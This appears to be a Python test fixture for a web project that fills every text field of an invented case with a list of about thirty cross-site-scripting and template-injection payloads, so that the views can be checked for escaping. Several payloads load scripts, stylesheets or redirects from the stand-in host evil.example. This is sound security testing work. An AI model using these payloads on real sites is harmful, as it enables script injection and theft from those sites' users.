"""A case in which every field that a source can fill tries to become markup."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from enum import Enum
from functools import cache
from typing import Any

from sayso.documents import Declared, Document, Profile, Published
from sayso.spans import Span
from tests.web.fakes import FakeView
from tests.web.invented import case

PAYLOADS = (
    "<script>canary()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=canary()>',
    "'><svg onload=canary()>",
    '" onmouseover="canary()" x="',
    "' autofocus onfocus='canary()",
    "</style><script>canary()</script>",
    "</title><script>canary()</script>",
    "</textarea></details></template><iframe srcdoc='<script>canary()</script>'>",
    "<!--><script>canary()</script-->",
    "]]><script>canary()</script>",
    "<a href=javascript:canary()>x</a>",
    "{{ 7 * 191 }}{% for x in [1] %}canary{% endfor %}",
    "${7*191}#{7*191}",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;script&#62;",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input type=submit>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<math><mtext></p><style><img src onerror=canary()>",
    "\u202e<b onclick=canary()>\u2066",
    "\x00<script>\x08canary()</script>\x7f",
    "＜script＞canary()＜/script＞",
    "<svg><use href='data:image/svg+xml,<svg onload=canary()>'/></svg>",
    "<details open ontoggle=canary()>",
    "<style>@import '//evil.example/x.css';</style>",
    "javascript:canary()",
    "\ud800<img src=x onerror=canary()>",
)
"""What a source might put where words belong. `canary` would run, or another server be asked, if one of them were not escaped."""

KEPT = frozenset({
    "id", "document", "a", "b", "story", "claim", "documents", "accounts", "attribution", "speaker", "members", "party", "date",
})  # fmt: skip
"""Fields that hold ids, which Sayso makes itself, and dates in EDTF."""


@cache
def case_of(payload: str) -> FakeView:
    """The invented case with the payload in every text that a document, its container or a finding's words can bring in."""
    whole = case()
    texts = {d.id: d.text for d in whole.all(Document)}
    poisoned = tuple(_poisoned(value, payload, texts) for value in whole.values)
    return replace(whole, values=poisoned, name="quayside")


def _poisoned(value: Any, payload: str, texts: dict[str, str]) -> Any:
    if isinstance(value, Document):
        declared = Declared(payload, (payload,), payload, payload, payload, payload)
        return replace(value, key=payload, path=payload, text=_woven(value.text, payload), declared=declared)
    if isinstance(value, Profile):
        value = replace(value, language=payload, published=Published(payload, value.published.basis, (payload,)))
    return _filled(value, payload)


def _woven(text: str, payload: str) -> str:
    """The payload over and over, as long as the text, so that every span of it still holds something."""
    return (payload * (len(text) // len(payload) + 1))[: len(text)]


def _filled(value: Any, payload: str) -> Any:
    if isinstance(value, str) and not isinstance(value, Enum):
        return payload
    if isinstance(value, tuple):
        return tuple(_filled(one, payload) for one in value)
    if is_dataclass(value) and not isinstance(value, type | Span):
        given = {f.name: getattr(value, f.name) for f in fields(value)}
        return replace(value, **{name: _filled(held, payload) for name, held in given.items() if not _is_id(name, held)})
    return value


def _is_id(name: str, held: Any) -> bool:
    return name in KEPT and (held is None or isinstance(held, str) or all(isinstance(one, str) for one in held))
